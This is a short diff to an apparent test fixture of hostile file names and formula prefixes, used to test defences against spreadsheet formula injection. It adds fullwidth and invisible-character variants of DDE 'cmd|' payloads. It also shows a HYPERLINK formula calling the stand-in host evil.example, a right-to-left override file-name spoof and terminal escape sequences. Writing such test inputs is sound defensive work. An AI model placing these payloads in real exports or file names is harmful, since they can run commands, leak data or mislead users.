@@ -19,6 +19,9 @@ NAMES = (
     f"-2+3+cmd|{CANARY}",
     f"@SUM(1+1)*{CANARY}",
     f'\t=HYPERLINK("http://evil.example/{CANARY}")',
+    f"\ufeff\xa0\u200b=1+cmd|{CANARY}",
+    f"＝1+cmd|{CANARY}",
+    f"\u3000－2+cmd|{CANARY}",
     "\u202e\u2066gnp.exe\u2069 \u200b\u200f",
     "nul\x00nul",
     "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
@@ -34,7 +37,7 @@ NAMES = (
     " ",
     "0",
 )
-FORMULAS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 LONG = "x<b>" * 250_000
 """A megabyte."""
 
